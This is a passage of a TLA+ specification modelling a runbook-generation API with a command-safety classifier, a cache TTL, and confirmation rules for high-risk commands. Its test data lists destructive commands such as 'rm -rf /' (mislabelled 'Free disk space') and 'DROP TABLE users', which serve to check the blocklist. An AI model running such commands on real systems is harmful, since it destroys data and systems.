            [command |-> "DROP TABLE users", description |-> "Drop the table",
             risk_level |-> "high"],
            [command |-> "rm -rf /", description |-> "Free disk space",
             risk_level |-> "medium", requires_approval |-> FALSE],
            [command |-> " ", description |-> "Blank", risk_level |-> "safe"]>>,
         prerequisite_steps |-> <<1>>, estimated_duration |-> "5 minutes"],
        [step_number |-> 3, category |-> "rollback", title |-> "Restart",
         commands |-> <<
            [description |-> "Nothing", risk_level |-> "safe"],
            [command |-> "init 6", description |-> "Restart the host",
             risk_level |-> "high"]>>,
         prerequisite_steps |-> <<2>>, estimated_duration |-> "1 minute"] >>,
     warnings |-> <<>>,
     prerequisites |-> <<>>]

NullCommands ==
    [steps |-> <<
        Inspect,
        [step_number |-> 2, category |-> "remediation", title |-> "Clean up",
         commands |-> None,
         prerequisite_steps |-> <<1>>, estimated_duration |-> "5 minutes"] >>,
     warnings |-> <<>>,
     prerequisites |-> <<>>]

EdgeResponses == <<
    Response("direct", Unflagged),
    Response("fenced", Defective),
    Response("direct", NullCommands) >>

\* Generated data whose steps carry their own numbers: two steps numbered 1 and
\* a step numbered 0.  The duration hints name two units, an abbreviated unit
\* and a unit in capitals.
Renumbered ==
    [steps |-> <<
        [step_number |-> 1, category |-> "diagnostic", title |-> "Inspect",
         commands |-> <<
            [command |-> "kubectl get pods", description |-> "List pods",
             risk_level |-> "safe", requires_approval |-> FALSE]>>,
         prerequisite_steps |-> <<>>, estimated_duration |-> "1 hour 30 minutes"],
        [step_number |-> 1, category |-> "verification", title |-> "Report",
         commands |-> <<
            [command |-> "echo ok", description |-> "Report",
             risk_level |-> "safe", requires_approval |-> FALSE]>>,
         prerequisite_steps |-> <<>>, estimated_duration |-> "45 sec"],
        [step_number |-> 0, category |-> "verification", title |-> "Check",
         commands |-> <<
            [command |-> "ssh host uptime", description |-> "Check the host",
             risk_level |-> "medium", requires_approval |-> FALSE]>>,
         prerequisite_steps |-> <<>>, estimated_duration |-> "2 HOURS"] >>,
     warnings |-> <<>>,
     prerequisites |-> <<>>]

BuildResponses == <<Response("direct", Renumbered)>>

AllResponses == Responses \o EdgeResponses \o BuildResponses

MaxStepsChoices == {1, 10}

\* max_steps is an int of the request without a constraint
AllMaxSteps == MaxStepsChoices \cup {-1, 0}

-----------------------------------------------------------------------------
(* Generation: RunbookGenerator.generate_runbook                           *)

\* _extract_json_from_response: the parsed object, or the ValueError it raises
extract_json_from_response(response) ==
    CASE response.form = "direct" -> response.data
      [] response.form = "fenced" -> response.data
      [] response.form = "embedded" ->
            IF "steps" \in DOMAIN response.data THEN response.data
            ELSE Failure("Could not extract valid JSON from Gemini response")
      [] OTHER -> Failure("Could not extract valid JSON from Gemini response")

\* a generator that adds only the first issue of the validation to the warnings
WithIssues_FirstOnly(runbook, validation) ==
    IF ~validation.is_valid
    THEN [runbook EXCEPT !.warnings = @ \o <<validation.issues[1]>>]
    ELSE runbook

\* generate_runbook, from the validation of the constructed runbook
WithIssues(runbook, validation) ==
    IF ~validation.is_valid
    THEN [runbook EXCEPT !.warnings = @ \o validation.issues]
    ELSE runbook

Validated(runbook) ==
    IF runbook.failed
    THEN Failure("Failed to generate runbook: " \o runbook.error)
    ELSE WithIssues(runbook, validate_runbook(runbook))

\* generate_runbook, from the extraction of the JSON object
Constructed(incident_id, runbook_data, max_steps, utcnow) ==
    IF IsFailure(runbook_data)
    THEN Failure("Failed to generate runbook: " \o runbook_data.error)
    ELSE Validated(construct_runbook(incident_id,
                                     IncidentSummary[incident_id].incident_type,
                                     IncidentSummary[incident_id].severity,
                                     runbook_data, max_steps, utcnow))

generator_generate_runbook(incident_id, response, max_steps, utcnow) ==
    IF response.form = "raise"
    THEN Failure("Failed to generate runbook: text generation failed")
    ELSE Constructed(incident_id, extract_json_from_response(response), max_steps, utcnow)

\* The generator, the validator and the executor are pure functions of their
\* arguments: their values on the inputs above are computed once and looked up.
GenerateTable ==
    [i \in KnownIncidents, k \in 1..Len(AllResponses), m \in AllMaxSteps, t \in Times |->
        generator_generate_runbook(i, AllResponses[k], m, t)]

Range(f) == {f[x] : x \in DOMAIN f}

GeneratedRunbooks == {r \in Range(GenerateTable) : ~r.failed}

CatalogCommands ==
    UNION {UNION {Range(r.steps[i].commands) : i \in 1..Len(r.steps)}
           : r \in GeneratedRunbooks}

ValidateTable == [r \in GeneratedRunbooks |-> validate_runbook(r)]

validate(runbook) == ValidateTable[runbook]

ExecuteTable ==
    [c \in CatalogCommands, d \in BOOLEAN, u \in {"user"} |-> execute_command(c, d, u)]

execute(command, dry_run, executed_by) == ExecuteTable[command, dry_run, executed_by]

-----------------------------------------------------------------------------
(* The API handlers: api/runbooks.py                                       *)

CACHE_TTL_MINUTES == 60

\* the third step of Data1 is not addressed: its command is blocked as the first
\* command of the second step is
StepNumbers == 1..2
CommandIndexes == {0, 1}
ConfirmationTexts == {None, "EXECUTE", "execute"}

\* the requests of execute_runbook_step.  confirmation_text is read for a live
\* request only, so a dry-run request is drawn without one.
ExecuteRequests ==
    {r \in [step_number : StepNumbers, command_index : CommandIndexes,
            dry_run : BOOLEAN, confirmation_text : ConfirmationTexts,
            executed_by : {"user"}] :
        r.dry_run => r.confirmation_text = None}

Resp(op, incident_id, status, body) ==
    [op |-> op, incident_id |-> incident_id, status |-> status, body |-> body]

\* the response of execute_runbook_step, with the request it answers as the
\* handler reads it: of confirmation_text, whether it is 'EXECUTE'
ExecResp(incident_id, request, status, body) ==
    [op |-> "execute", incident_id |-> incident_id, status |-> status, body |-> body,
     request |-> [step_number |-> request.step_number,
                  command_index |-> request.command_index,
                  dry_run |-> request.dry_run,
                  confirmed |-> request.confirmation_text = "EXECUTE",
                  executed_by |-> request.executed_by]]

\* no handler has a response to send
Idle == Resp("idle", None, 0, None)

\* Python dict: d[key] = value, del d[key]
DictSet(d, key, value) == [k \in DOMAIN d \cup {key} |-> IF k = key THEN value ELSE d[k]]
DictDel(d, key) == [k \in DOMAIN d \ {key} |-> d[k]]
EmptyDict == [k \in {} |-> None]

\* a cache read that expires an entry already at the age of the TTL
get_runbook_from_cache_ExpireAtTTL(cache, incident_id, utcnow) ==
    IF incident_id \notin DOMAIN cache
    THEN [found |-> FALSE, cache |-> cache, expired |-> FALSE]
    ELSE IF utcnow - cache[incident_id].generated_at >= CACHE_TTL_MINUTES
    THEN [found |-> FALSE, cache |-> DictDel(cache, incident_id), expired |-> TRUE]
    ELSE [found |-> TRUE, cache |-> cache, expired |-> FALSE]

\* get_runbook_from_cache: whether a runbook is returned, the cache it leaves behind
\* and whether "runbook_cache_expired" was logged
get_runbook_from_cache(cache, incident_id, utcnow) ==
    IF incident_id \notin DOMAIN cache
    THEN [found |-> FALSE, cache |-> cache, expired |-> FALSE]
    ELSE IF utcnow - cache[incident_id].generated_at > CACHE_TTL_MINUTES
    THEN [found |-> FALSE, cache |-> DictDel(cache, incident_id), expired |-> TRUE]
    ELSE [found |-> TRUE, cache |-> cache, expired |-> FALSE]

\* a cache write that appends the new steps and warnings to the cached runbook's
CachePut_Merge(cache, incident_id, runbook) ==
    IF incident_id \in DOMAIN cache
    THEN DictSet(cache, incident_id,
                 [runbook EXCEPT !.steps = cache[incident_id].steps \o @,
                                 !.warnings = cache[incident_id].warnings \o @])
    ELSE DictSet(cache, incident_id, runbook)

\* a cache write that keeps the entry of a generation that returned earlier
CachePut_KeepFirst(cache, incident_id, runbook) ==
    IF incident_id \in DOMAIN cache THEN cache ELSE DictSet(cache, incident_id, runbook)

\* runbooks_cache[incident_id] = runbook
CachePut(cache, incident_id, runbook) == DictSet(cache, incident_id, runbook)

Init ==
    /\ runbooks_cache = EmptyDict
    /\ execution_history = EmptyDict
    /\ now = 0
    /\ inflight = [i \in KnownIncidents |-> 0]
    /\ resp = Idle
    /\ cmd = ""
    /\ base = ""
    /\ verdict = <<TRUE, "medium", DefaultReason>>

harness == <<cmd, base, verdict>>

\* the number of generate requests that await the text-generation service
RECURSIVE InFlight(_, _)
InFlight(waiting, S) ==
    IF S = {} THEN 0
    ELSE LET x == CHOOSE y \in S : TRUE IN waiting[x] + InFlight(waiting, S \ {x})

\* generate_runbook up to the await of the text-generation call.  The request's
\* max_steps is not read before the call returns: it is drawn in GenerateFinish.
GenerateStart(incident_id) ==
    /\ resp = Idle
    /\ IF incident_id \notin KnownIncidents
       THEN /\ resp' = Resp("generate", incident_id, 404, "Incident not found: " \o incident_id)
            /\ UNCHANGED inflight
       ELSE /\ InFlight(inflight, KnownIncidents) < MaxInflight
            /\ inflight' = [inflight EXCEPT ![incident_id] = @ + 1]
            /\ UNCHANGED resp
    /\ UNCHANGED <<runbooks_cache, execution_history, now, harness>>

\* a handler that drops the incident's cache entry when the generation fails
GenerateOutcome_DropOnFailure(incident_id, runbook) ==
    IF IsFailure(runbook)
    THEN /\ resp' = Resp("generate", incident_id, 500,
                         "Failed to generate runbook: " \o runbook.error)
         /\ runbooks_cache' = DictDel(runbooks_cache, incident_id)
    ELSE /\ runbooks_cache' = CachePut(runbooks_cache, incident_id, runbook)
         /\ resp' = Resp("generate", incident_id, 200, runbook)

\* generate_runbook from the return of the text-generation call
GenerateOutcome(incident_id, runbook) ==
    IF IsFailure(runbook)
    THEN /\ resp' = Resp("generate", incident_id, 500,
                         "Failed to generate runbook: " \o runbook.error)
         /\ UNCHANGED runbooks_cache
    ELSE /\ runbooks_cache' = CachePut(runbooks_cache, incident_id, runbook)
         /\ resp' = Resp("generate", incident_id, 200, runbook)

\* a handler that starts the history of the incident afresh with the new runbook
GenerateFinish_ResetHistory(incident_id, k, max_steps) ==
    /\ resp = Idle
    /\ inflight[incident_id] > 0
    /\ inflight' = [inflight EXCEPT ![incident_id] = @ - 1]
    /\ GenerateOutcome(incident_id, GenerateTable[incident_id, k, max_steps, now])
    /\ execution_history' =
          IF IsFailure(GenerateTable[incident_id, k, max_steps, now])
          THEN execution_history
          ELSE DictDel(execution_history, incident_id)
    /\ UNCHANGED <<now, harness>>

GenerateFinish(incident_id, k, max_steps) ==
    /\ resp = Idle
    /\ inflight[incident_id] > 0
    /\ inflight' = [inflight EXCEPT ![incident_id] = @ - 1]
    /\ GenerateOutcome(incident_id, GenerateTable[incident_id, k, max_steps, now])
    /\ UNCHANGED <<execution_history, now, harness>>

GetRunbook(incident_id) ==
    LET got == get_runbook_from_cache(runbooks_cache, incident_id, now)
    IN  /\ resp = Idle
        /\ runbooks_cache' = got.cache
        /\ resp' = IF ~got.found
                   THEN Resp("get", incident_id, 404, [expired |-> got.expired])
                   ELSE Resp("get", incident_id, 200, runbooks_cache[incident_id])
        /\ UNCHANGED <<execution_history, now, inflight, harness>>


\* Python list indexing with a possibly negative index; IndexError when out of range
IndexInRange(seq, i) == -Len(seq) <= i /\ i < Len(seq)
PyIndex(seq, i) == IF i >= 0 THEN seq[i + 1] ELSE seq[Len(seq) + i + 1]

\* execute_runbook_step: the response, and the result to append when there is one
execute_step_outcome(runbook, incident_id, request) ==
    LET matching == {i \in 1..Len(runbook.steps) :
                        runbook.steps[i].step_number = request.step_number}
    IN  IF matching = {}
        THEN [appended |-> FALSE,
              resp |-> ExecResp(incident_id, request, 404,
                            "Step " \o ToString(request.step_number) \o " not found in runbook")]
        ELSE LET step == runbook.steps[First(matching)]
             IN  IF request.command_index >= Len(step.commands)
                 THEN [appended |-> FALSE,
                       resp |-> ExecResp(incident_id, request, 400,
                                     "Command index " \o ToString(request.command_index)
                                     \o " out of range")]
                 ELSE IF ~IndexInRange(step.commands, request.command_index)
                 THEN [appended |-> FALSE,
                       resp |-> ExecResp(incident_id, request, 500,
                                     "Failed to execute step: list index out of range")]
                 ELSE LET command == PyIndex(step.commands, request.command_index)
                      IN  IF /\ command.risk_level = "high"
                             /\ ~request.dry_run
                             /\ request.confirmation_text # "EXECUTE"
                          THEN [appended |-> FALSE,
                                resp |-> ExecResp(incident_id, request, 400,
                                    "High-risk command requires confirmation text 'EXECUTE'")]
                          ELSE LET result == [execute(command, request.dry_run,
                                              request.executed_by)
                                                EXCEPT !.step_number = request.step_number,
                                                       !.command_index = request.command_index]
                               IN  [appended |-> TRUE,
                                    resp |-> ExecResp(incident_id, request, 200, result)]

HistoryOf(history, incident_id) ==
    IF incident_id \in DOMAIN history THEN history[incident_id] ELSE <<>>

RECURSIVE SumOver(_, _)
SumOver(f, S) ==
    IF S = {} THEN 0 ELSE LET x == CHOOSE y \in S : TRUE IN Len(f[x]) + SumOver(f, S \ {x})

TotalHistory(history) == SumOver(history, DOMAIN history)

\* a handler that records only the results that report success
ExecuteOutcome_SkipFailed(incident_id, outcome, limit) ==
    /\ resp' = outcome.resp
    /\ IF outcome.appended /\ outcome.resp.body.success
       THEN /\ TotalHistory(execution_history) < limit
            /\ execution_history' =
                  DictSet(execution_history, incident_id,
                          Append(HistoryOf(execution_history, incident_id), outcome.resp.body))
       ELSE UNCHANGED execution_history

\* execute_runbook_step, from the response: the result is appended when there is
\* one.  limit is the number of results that the specification lets the
\* histories hold: the code has no limit.
ExecuteOutcome(incident_id, outcome, limit) ==
    /\ resp' = outcome.resp
    /\ IF outcome.appended
       THEN /\ TotalHistory(execution_history) < limit
            /\ execution_history' =
                  DictSet(execution_history, incident_id,
                          Append(HistoryOf(execution_history, incident_id), outcome.resp.body))
       ELSE UNCHANGED execution_history

ExecuteRunbookStep(incident_id, request, limit) ==
    LET got == get_runbook_from_cache(runbooks_cache, incident_id, now)
    IN  /\ resp = Idle
        /\ runbooks_cache' = got.cache
        /\ IF ~got.found
           THEN /\ resp' = ExecResp(incident_id, request, 404,
                                "No runbook found for incident " \o incident_id)
                /\ UNCHANGED execution_history
           ELSE ExecuteOutcome(incident_id,
                               execute_step_outcome(runbooks_cache[incident_id],
                                                    incident_id, request),
                               limit)
        /\ UNCHANGED <<now, inflight, harness>>


GetExecutionHistory(incident_id) ==
    /\ resp = Idle
    /\ resp' = IF incident_id \notin DOMAIN execution_history
               THEN Resp("history", incident_id, 200,
                         [incident_id |-> incident_id, executions_count |-> 0, history |-> <<>>])
               ELSE LET history == execution_history[incident_id]
                    IN  Resp("history", incident_id, 200,
                             [incident_id |-> incident_id,
                              executions_count |-> Len(history),
                              history |-> history,
                              successful_count |-> Cardinality({n \in 1..Len(history) : history[n].success}),
                              failed_count |-> Cardinality({n \in 1..Len(history) : ~history[n].success}),
                              dry_run_count |-> Cardinality({n \in 1..Len(history) : history[n].dry_run})])
    /\ UNCHANGED <<runbooks_cache, execution_history, now, inflight, harness>>

\* a validation that stores its warnings in the cached runbook
ValidateRunbook_StoreWarnings(incident_id) ==
    LET got == get_runbook_from_cache(runbooks_cache, incident_id, now)
    IN  /\ resp = Idle
        /\ IF ~got.found
           THEN /\ resp' = Resp("validate", incident_id, 404,
                                "No runbook found for incident " \o incident_id)
                /\ runbooks_cache' = got.cache
           ELSE /\ resp' = Resp("validate", incident_id, 200,
                                validate(runbooks_cache[incident_id]))
                /\ runbooks_cache' =
                      [runbooks_cache EXCEPT ![incident_id].warnings = @ \o resp'.body.warnings]
        /\ UNCHANGED <<execution_history, now, inflight, harness>>

ValidateRunbook(incident_id) ==
    LET got == get_runbook_from_cache(runbooks_cache, incident_id, now)
    IN  /\ resp = Idle
        /\ runbooks_cache' = got.cache
        /\ resp' = IF ~got.found
                   THEN Resp("validate", incident_id, 404,
                             "No runbook found for incident " \o incident_id)
                   ELSE Resp("validate", incident_id, 200,
                             validate(runbooks_cache[incident_id]))
        /\ UNCHANGED <<execution_history, now, inflight, harness>>

\* an invalidation that leaves the execution history behind
ClearRunbookCache_KeepHistory(incident_id) ==
    /\ resp = Idle
    /\ IF incident_id \notin DOMAIN runbooks_cache
       THEN /\ resp' = Resp("clear", incident_id, 404,
                            "No cached runbook found for incident " \o incident_id)
            /\ UNCHANGED <<runbooks_cache, execution_history>>
       ELSE /\ runbooks_cache' = DictDel(runbooks_cache, incident_id)
            /\ UNCHANGED execution_history
            /\ resp' = Resp("clear", incident_id, 200,
                            [success |-> TRUE, incident_id |-> incident_id])
    /\ UNCHANGED <<now, inflight, harness>>

ClearRunbookCache(incident_id) ==
    /\ resp = Idle
    /\ IF incident_id \notin DOMAIN runbooks_cache
       THEN /\ resp' = Resp("clear", incident_id, 404,
                            "No cached runbook found for incident " \o incident_id)
            /\ UNCHANGED <<runbooks_cache, execution_history>>
       ELSE /\ runbooks_cache' = DictDel(runbooks_cache, incident_id)
            /\ execution_history' = DictDel(execution_history, incident_id)
            /\ resp' = Resp("clear", incident_id, 200,
                            [success |-> TRUE, incident_id |-> incident_id])
    /\ UNCHANGED <<now, inflight, harness>>

\* the summaries are reported as a set: the dict's insertion order is not modelled
ListCachedRunbooks ==
    /\ resp = Idle
    /\ resp' = Resp("list", None, 200,
                    [cached_count |-> Cardinality(DOMAIN runbooks_cache),
                     cache_ttl_minutes |-> CACHE_TTL_MINUTES,
                     runbooks |-> {[incident_id |-> i,
                                    generated_at |-> runbooks_cache[i].generated_at,
                                    age_minutes |-> now - runbooks_cache[i].generated_at,
                                    total_steps |-> runbooks_cache[i].total_steps,
                                    severity |-> runbooks_cache[i].severity,
                                    estimated_time |-> runbooks_cache[i].estimated_total_time]
                                   : i \in DOMAIN runbooks_cache}])
    /\ UNCHANGED <<runbooks_cache, execution_history, now, inflight, harness>>

\* the response of the handler that ran last has been sent
ResponseSent ==
    /\ resp # Idle
    /\ resp' = Idle
    /\ UNCHANGED <<runbooks_cache, execution_history, now, inflight, harness>>

\* time passes between requests
Tick(minutes) ==
    /\ resp = Idle
    /\ now + minutes <= MaxTime
    /\ now' = now + minutes
    /\ UNCHANGED <<runbooks_cache, execution_history, inflight, resp, harness>>

Next ==
    \/ \E i \in RequestIds : GenerateStart(i)
    \/ \E i \in KnownIncidents, k \in 1..Len(Responses), m \in MaxStepsChoices :
          GenerateFinish(i, k, m)
    \/ \E i \in KnownIncidents : GetRunbook(i)
    \/ \E i \in KnownIncidents, r \in ExecuteRequests : ExecuteRunbookStep(i, r, MaxHist)
    \/ \E i \in KnownIncidents : GetExecutionHistory(i)
    \/ \E i \in KnownIncidents : ValidateRunbook(i)
    \/ \E i \in KnownIncidents : ClearRunbookCache(i)
    \/ ListCachedRunbooks
    \/ ResponseSent
    \/ \E minutes \in TickMinutes : Tick(minutes)

Spec == Init /\ [][Next]_vars

-----------------------------------------------------------------------------
(* One incident whose generated data is defective, addressed by execute    *)
(* requests with command indexes below and beyond a step's commands.       *)

EdgeIncident == "INC-1"

\* every response but the first: the failures and the defective data
EdgeChoices == 2..(Len(Responses) + Len(EdgeResponses))

EdgeRequests ==
    {r \in [step_number : {1, 2}, command_index : {-1, 0, 1, 3},
            dry_run : BOOLEAN, confirmation_text : {None, "EXECUTE"},
            executed_by : {"user"}] :
        r.dry_run => r.confirmation_text = None}

EdgeNext ==
    \/ \E i \in {EdgeIncident, "INC-404"} : GenerateStart(i)
    \/ \E k \in EdgeChoices, m \in MaxStepsChoices : GenerateFinish(EdgeIncident, k, m)
    \/ GetRunbook(EdgeIncident)
    \/ \E r \in EdgeRequests : ExecuteRunbookStep(EdgeIncident, r, MaxHist)
    \/ ValidateRunbook(EdgeIncident)
    \/ ResponseSent
    \/ \E minutes \in TickMinutes : Tick(minutes)

EdgeSpec == Init /\ [][EdgeNext]_vars

-----------------------------------------------------------------------------
(* Generation on its own: one incident, the generated data from which a    *)
(* runbook is built, and every kind of max_steps a request may carry.      *)

\* Data1, Unflagged and Renumbered
BuildChoices == {1, Len(Responses) + 1, Len(AllResponses)}

BuildNext ==
    \/ GenerateStart(EdgeIncident)
    \/ \E k \in BuildChoices, m \in AllMaxSteps : GenerateFinish(EdgeIncident, k, m)
    \/ GetRunbook(EdgeIncident)
    \/ ValidateRunbook(EdgeIncident)
    \/ ResponseSent
    \/ \E minutes \in TickMinutes : Tick(minutes)

BuildSpec == Init /\ [][BuildNext]_vars

-----------------------------------------------------------------------------
(* A burst: MaxBurst generate requests for one incident have reached the   *)
(* await of the text-generation call (GenerateStart, MaxBurst times) and   *)
(* no generate request is issued after them.  Their generations succeed    *)
(* and return one by one, between the other requests for the incident.     *)

\* Data1 and Unflagged
BurstChoices == {1, Len(Responses) + 1}

BurstRequests ==
    {r \in [step_number : {1, 2}, command_index : {-1, 0},
            dry_run : BOOLEAN, confirmation_text : {None, "EXECUTE"},
            executed_by : {"user"}] :
        r.dry_run => r.confirmation_text = None}

BurstInit ==
    /\ runbooks_cache = EmptyDict
    /\ execution_history = EmptyDict
    /\ now = 0
    /\ inflight = [i \in KnownIncidents |-> IF i = EdgeIncident THEN MaxBurst ELSE 0]
    /\ resp = Idle
    /\ cmd = ""
    /\ base = ""
    /\ verdict = <<TRUE, "medium", DefaultReason>>

BurstNext ==
    \/ \E k \in BurstChoices, m \in MaxStepsChoices : GenerateFinish(EdgeIncident, k, m)
    \/ GetRunbook(EdgeIncident)
    \/ \E r \in BurstRequests : ExecuteRunbookStep(EdgeIncident, r, MaxLog)
    \/ GetExecutionHistory(EdgeIncident)
    \/ ValidateRunbook(EdgeIncident)
    \/ ClearRunbookCache(EdgeIncident)
    \/ ListCachedRunbooks
    \/ ResponseSent
    \/ \E minutes \in TickMinutes : Tick(minutes)

BurstSpec == BurstInit /\ [][BurstNext]_vars

-----------------------------------------------------------------------------
(* The classifier on its own: a command of the corpus, changed in letter   *)
(* case and padded with whitespace, is classified after every change.      *)

api == <<runbooks_cache, execution_history, now, inflight, resp>>

ClassifyInit ==
    /\ runbooks_cache = EmptyDict
    /\ execution_history = EmptyDict
    /\ now = 0
    /\ inflight = [i \in KnownIncidents |-> 0]
    /\ resp = Idle
    /\ base \in Corpus
    /\ cmd = base
    /\ verdict = validate_command_safety(base)

Padded == Len(str_strip(cmd)) + MaxPad <= Len(cmd)

UpperCase ==
    /\ cmd' = str_upper(cmd)
    /\ verdict' = validate_command_safety(cmd')
    /\ UNCHANGED <<base, api>>

LowerCase ==
    /\ cmd' = str_lower(cmd)
    /\ verdict' = validate_command_safety(cmd')
    /\ UNCHANGED <<base, api>>

PadLeft(ws) ==
    /\ ~Padded
    /\ cmd' = ws \o cmd
    /\ verdict' = validate_command_safety(cmd')
    /\ UNCHANGED <<base, api>>

PadRight(ws) ==
    /\ ~Padded
    /\ cmd' = cmd \o ws
    /\ verdict' = validate_command_safety(cmd')
    /\ UNCHANGED <<base, api>>

ClassifyNext ==
    \/ UpperCase
    \/ LowerCase
    \/ \E ws \in {" ", "\t"} : PadLeft(ws)
    \/ \E ws \in {" ", "\t"} : PadRight(ws)

ClassifySpec == ClassifyInit /\ [][ClassifyNext]_vars

-----------------------------------------------------------------------------
(* Properties *)

Blocked(command) == ~classify(command)[1]

HighRisk(command) == classify(command)[1] /\ classify(command)[2] = "high"

\* every ExecutionResult in some incident's history
Recorded ==
    UNION {{execution_history[i][n] : n \in 1..Len(execution_history[i])}
           : i \in DOMAIN execution_history}

\* the handler that ran last returned an ExecutionResult
Returned == resp.op = "execute" /\ resp.status = 200

C2_AlwaysDryRun ==
    /\ \A h \in Recorded : h.dry_run
    /\ Returned => resp.body.dry_run

\* the command a request addresses in a runbook, when it addresses one
Addresses(runbook, request) ==
    /\ \E i \in 1..Len(runbook.steps) : runbook.steps[i].step_number = request.step_number
    /\ LET step == runbook.steps[First({i \in 1..Len(runbook.steps) :
                        runbook.steps[i].step_number = request.step_number})]
       IN  request.command_index \in 0..(Len(step.commands) - 1)

Addressed(runbook, request) ==
    LET step == runbook.steps[First({i \in 1..Len(runbook.steps) :
                        runbook.steps[i].step_number = request.step_number})]
    IN  step.commands[request.command_index + 1]

Live(incident_id) ==
    /\ incident_id \in DOMAIN runbooks_cache
    /\ now - runbooks_cache[incident_id].generated_at <= CACHE_TTL_MINUTES

\* in the step now taken, execute answers a live-mode request without the exact
\* token for a command of a live runbook that the classifier rates high
LiveHighRiskWithoutToken ==
    /\ resp = Idle
    /\ resp'.op = "execute"
    /\ ~resp'.request.dry_run
    /\ ~resp'.request.confirmed
    /\ Live(resp'.incident_id)
    /\ Addresses(runbooks_cache[resp'.incident_id], resp'.request)
    /\ HighRisk(Addressed(runbooks_cache[resp'.incident_id], resp'.request).command)

\* C3: a live-mode execute request for a command the classifier rates high,
\* without the exact confirmation text 'EXECUTE', is rejected: no
\* ExecutionResult is returned and nothing is appended to a history, whatever
\* tier the runbook records for the command.
C3_HighRiskNeedsToken ==
    [][LiveHighRiskWithoutToken =>
          /\ resp'.status = 400
          /\ execution_history' = execution_history]_vars

\* C4: validating a runbook that holds a blocked command gives is_valid = FALSE,
\* and every blocked command is listed in dangerous_commands with its step's
\* ordinal, its text and the blocking reason.
C4_BlockedInvalidates ==
    resp.op = "validate" /\ resp.status = 200 =>
        LET runbook == runbooks_cache[resp.incident_id]
        IN  \A i \in 1..Len(runbook.steps) : \A j \in 1..Len(runbook.steps[i].commands) :
                LET command == runbook.steps[i].commands[j].command
                IN  Blocked(command) =>
                        /\ ~resp.body.is_valid
                        /\ \E d \in 1..Len(resp.body.dangerous_commands) :
                              resp.body.dangerous_commands[d] =
                                  [step |-> runbook.steps[i].step_number,
                                   command |-> command,
                                   reason |-> classify(command)[3]]

\* a runbook with blocked commands in two steps was validated
C4_Witness ==
    /\ resp.op = "validate"
    /\ resp.status = 200
    /\ ~resp.body.is_valid
    /\ \E d, e \in 1..Len(resp.body.dangerous_commands) :
          resp.body.dangerous_commands[d].step # resp.body.dangerous_commands[e].step

MatchesBlocklist(command) == Matching(DANGEROUS_PATTERNS, command) # {}
StartsWithSafe(command) == is_safe_command(str_strip(str_lower(command)))
MatchesMedium(command) == Matching(medium_risk_patterns, command) # {}
MatchesHigh(command) == Matching(high_risk_patterns, command) # {}

\* C5: a command that matches a blocklist rule is classified (not allowed,
\* high), and so is every change of its letter case and every padding of it
\* with whitespace, also when it starts with a known-safe prefix.
C5_BlocklistWins ==
    MatchesBlocklist(base) =>
        /\ verdict[1] = FALSE
        /\ verdict[2] = "high"
        /\ verdict = SafetyTable[base]

\* a blocked command with a safe prefix, upper-cased and padded
C5_Witness ==
    /\ MatchesBlocklist(base)
    /\ StartsWithSafe(base)
    /\ Len(cmd) > Len(base)
    /\ cmd = str_upper(cmd)
    /\ base # str_upper(base)
    /\ verdict[1] = FALSE

\* C6: a command that matches one of the 'kubectl delete deployment / service /
\* namespace' rules and no blocklist rule is classified (allowed, high) with the
\* reason that asks for explicit confirmation.
C6_DeleteResourceIsHigh ==
    (/\ \E i \in 1..3 : re_search(high_risk_patterns[i].re, cmd, TRUE)
     /\ ~MatchesBlocklist(cmd))
        => verdict = <<TRUE, "high", HighReason>>

\* C7: the classification is the first match of the priority order blocklist,
\* safe prefix, medium-risk rule, high-risk rule, default; a command that
\* matches nothing is allowed and rated medium.
C7_PriorityOrder ==
    LET tier == <<verdict[1], verdict[2]>>
    IN  /\ MatchesBlocklist(cmd) => tier = <<FALSE, "high">>
        /\ ~MatchesBlocklist(cmd) /\ StartsWithSafe(cmd) => tier = <<TRUE, "safe">>
        /\ ~MatchesBlocklist(cmd) /\ ~StartsWithSafe(cmd) /\ MatchesMedium(cmd)
              => tier = <<TRUE, "medium">>
        /\ ~MatchesBlocklist(cmd) /\ ~StartsWithSafe(cmd) /\ ~MatchesMedium(cmd)
              /\ MatchesHigh(cmd) => tier = <<TRUE, "high">>
        /\ ~MatchesBlocklist(cmd) /\ ~StartsWithSafe(cmd) /\ ~MatchesMedium(cmd)
              /\ ~MatchesHigh(cmd) => tier = <<TRUE, "medium">>

\* a command that matches a medium-risk and a high-risk rule, rated by the first
C7_Witness ==
    /\ ~MatchesBlocklist(cmd)
    /\ ~StartsWithSafe(cmd)
    /\ MatchesMedium(cmd)
    /\ MatchesHigh(cmd)
    /\ cmd # base
    /\ verdict[2] = "medium"

\* the runbooks a generation for an incident can produce at a time
FreshRunbooks(incident_id, utcnow) ==
    {r \in {GenerateTable[incident_id, k, m, utcnow]
               : k \in 1..Len(Responses), m \in MaxStepsChoices} : ~r.failed}

\* C8: when a generate request for incident I succeeds, the cache entry of I
\* is the runbook that request generated and returned, with nothing of the
\* entry it replaces, and the entries of the other incidents are unchanged.
C8_GenerateReplaces ==
    [][resp = Idle /\ resp'.op = "generate" /\ resp'.status = 200 =>
          /\ resp'.incident_id \in DOMAIN runbooks_cache'
          /\ runbooks_cache'[resp'.incident_id] = resp'.body
          /\ runbooks_cache'[resp'.incident_id] \in FreshRunbooks(resp'.incident_id, now)
          /\ DOMAIN runbooks_cache' = DOMAIN runbooks_cache \cup {resp'.incident_id}
          /\ \A j \in DOMAIN runbooks_cache \ {resp'.incident_id} :
                runbooks_cache'[j] = runbooks_cache[j]]_vars

\* a generation replaced a runbook that had been executed, another incident's
\* runbook being cached
C8_Witness ==
    /\ resp.op = "generate"
    /\ resp.status = 200
    /\ now = 0
    /\ HistoryOf(execution_history, resp.incident_id) # <<>>
    /\ runbooks_cache[resp.incident_id].total_steps = 1
    /\ Recorded # {} /\ \A h \in Recorded : h.step_number > 1
    /\ DOMAIN runbooks_cache = KnownIncidents

\* C9: a read of an entry older than the TTL answers 404 and deletes the entry;
\* a read of a younger entry returns it and leaves the cache alone; an absent
\* entry stays absent, and its reads answer 404, until a generate for that
\* incident succeeds.
C9_LazyExpiry ==
    [][/\ resp = Idle /\ resp'.op = "get" =>
             LET i == resp'.incident_id
             IN  IF i \notin DOMAIN runbooks_cache
                 THEN resp'.status = 404 /\ runbooks_cache' = runbooks_cache
                 ELSE IF now - runbooks_cache[i].generated_at > CACHE_TTL_MINUTES
                 THEN resp'.status = 404 /\ runbooks_cache' = DictDel(runbooks_cache, i)
                 ELSE /\ resp'.status = 200
                      /\ resp'.body = runbooks_cache[i]
                      /\ runbooks_cache' = runbooks_cache
       /\ \A i \in DOMAIN runbooks_cache' \ DOMAIN runbooks_cache :
